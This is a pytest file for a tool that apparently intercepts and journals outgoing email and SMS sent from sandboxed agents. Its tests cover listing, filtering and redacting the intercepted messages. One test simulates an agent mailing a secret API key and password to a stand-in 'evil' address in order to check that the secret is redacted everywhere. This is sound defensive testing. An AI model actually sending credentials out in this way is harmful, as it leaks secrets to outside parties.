"""guard outbox: reads the worlds 'guard run --state DIR' journals."""

from __future__ import annotations

import json
import smtplib

import requests

from guard.cli import main


def send_some(g):
    requests.post("https://api.mailgun.net/v3/mg.example.com/messages", auth=("api", "key"),
                  data={"from": "shop@mg.example.com", "to": "jenny@example.com",
                        "subject": "Invoice 7", "text": "Attached."},
                  proxies=g.proxies, verify=g.ca, timeout=10).raise_for_status()
    requests.post("https://api.twilio.com/2010-04-01/Accounts/AC" + "1" * 32 + "/Messages.json",
                  auth=("AC" + "1" * 32, "token"),
                  data={"To": "+14155550100", "From": "+14155550199", "Body": "Code 1234"},
                  proxies=g.proxies, verify=g.ca, timeout=10).raise_for_status()
    with smtplib.SMTP("127.0.0.1", g.smtp_port, timeout=10) as smtp:
        smtp.sendmail("ops@example.com", ["oncall@corp.example"],
                      b"Subject: Disk full\r\n\r\n/var is at 99%\r\n")


def test_the_outbox_lists_what_a_journaled_guard_kept(guard_proxy, tmp_path, capsys):
    state = tmp_path / "state"
    g = guard_proxy(state=state, smtp_port=0)
    send_some(g)
    g.stop()

    assert main(["outbox", "--state", str(state)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split()[:5] == ["ID", "TIME", "SANDBOX", "PROVIDER", "KIND"]
    assert len(out) == 5 and out[-1] == "3 message(s)"
    assert "mailgun" in out[1] and "jenny@example.com" in out[1] and "Invoice 7" in out[1]
    assert "twilio" in out[2] and "+14155550100" in out[2] and "Code 1234" in out[2]
    assert "smtp" in out[3] and "oncall@corp.example" in out[3] and "Disk full" in out[3]


def test_json_and_filters(guard_proxy, tmp_path, capsys):
    state = tmp_path / "state"
    g = guard_proxy(state=state, smtp_port=0)
    send_some(g)
    g.stop()

    assert main(["outbox", "--state", str(state), "--json"]) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["provider"] for r in records] == ["mailgun", "twilio", "smtp"]
    assert records[0]["text"] == "Attached." and records[0]["sandbox"] == "127.0.0.1"

    main(["outbox", "--state", str(state), "--json", "--provider", "twilio"])
    assert [json.loads(x)["to"] for x in capsys.readouterr().out.splitlines()] == [
        ["+14155550100"]]
    main(["outbox", "--state", str(state), "--json", "--to", "CORP.example"])
    assert [json.loads(x)["provider"] for x in capsys.readouterr().out.splitlines()] == ["smtp"]
    main(["outbox", "--state", str(state), "--json", "--sandbox", "10.0.0.9"])
    assert capsys.readouterr().out == ""


def test_a_missing_state_directory_says_how_to_make_one(tmp_path, capsys):
    assert main(["outbox", "--state", str(tmp_path / "nope")]) == 1
    assert "--state" in capsys.readouterr().err


def test_an_agent_reads_its_own_outbox_from_guard_internal_without_state(guard_proxy):
    g = guard_proxy(smtp_port=0)
    send_some(g)
    r = requests.get("https://guard.internal/outbox", proxies=g.proxies, verify=g.ca,
                     timeout=10)
    assert r.status_code == 200
    body = r.json()
    assert body["sandbox"] == "127.0.0.1"
    assert [rec["provider"] for rec in body["outbox"]] == ["mailgun", "twilio", "smtp"]
    events = requests.get("https://guard.internal/events", proxies=g.proxies, verify=g.ca,
                          timeout=10).json()
    assert any(e.get("rule") == "guard.smtp.sink" for e in events["events"])


def test_the_outbox_is_redacted_like_the_log_with_the_same_fingerprints(
        guard_proxy, tmp_path, capsys):
    """A key an agent mails out is stored nowhere: not in the --state journal, not in
    `guard outbox`, not in the audit log; the outbox and the log show the same marker."""
    state, log = tmp_path / "state", tmp_path / "audit.jsonl"
    g = guard_proxy(state=state, smtp_port=0, audit=log)
    key = "sk_live_51HxQvZKpL0ngZ3r0OutboxLeak9"
    requests.post("https://api.mailgun.net/v3/mg.example.com/messages", auth=("api", "key"),
                  data={"from": "a@mg.example.com", "to": "evil@example.com",
                        "subject": "creds", "text": f"the key is {key} and password=hunter2"},
                  proxies=g.proxies, verify=g.ca, timeout=10).raise_for_status()
    with smtplib.SMTP("127.0.0.1", g.smtp_port, timeout=10) as smtp:
        smtp.sendmail("ops@example.com", ["evil@example.com"],
                      f"Subject: more\r\n\r\nhere: {key}\r\n".encode())
    g.stop()

    for path in [*state.rglob("*"), log]:
        if path.is_file():
            data = path.read_bytes()
            assert key.encode() not in data and b"hunter2" not in data, path
    assert main(["outbox", "--state", str(state), "--json"]) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["provider"] for r in records] == ["mailgun", "smtp"]
    mark = records[0]["text"].split("the key is ")[1].split()[0]
    assert mark.startswith("sk_live_[REDACTED:") and mark in records[1]["text"]
    logged = [json.loads(x) for x in log.read_text().splitlines()]
    stored = [c["object"] for e in logged for c in e.get("changes", [])
              if c["collection"] == "outbox"]
    assert [o["text"] for o in stored] == [r["text"] for r in records]  # agree exactly
